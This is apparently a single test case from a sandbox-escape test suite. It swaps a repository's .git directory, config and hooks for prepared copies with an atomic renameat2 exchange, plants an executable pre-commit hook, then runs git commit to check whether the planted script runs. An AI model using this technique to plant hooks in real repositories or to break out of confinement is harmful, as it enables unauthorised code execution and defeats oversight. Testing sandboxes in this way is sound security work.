"""
id: c-git-exchange
class: c
title: exchange .git, its hooks and its config with prepared ones in one step
source: renameat2(RENAME_EXCHANGE) against mount points
"""
from esc import *


def exchange(a, b):
    syscall(316, -100, a.encode(), -100, b.encode(), 2)


def attack(x):
    x.attempt(shutil.copytree, x.p(".git"), x.p("build/git"), symlinks=True)
    x.git_config(x.p("build/git/config"))
    x.put(x.p("build/git/hooks/pre-commit"), x.script, 0o755)
    for part in ("", "/config", "/hooks"):
        if x.attempt(exchange, x.p(".git") + part, x.p("build/git") + part) and not part:
            break                        # all at once


def verdict(x):
    x.sh("git", "status")
    x.sh("git", "commit", "--allow-empty", "-m", "work")
    return x.executed()


main(globals())
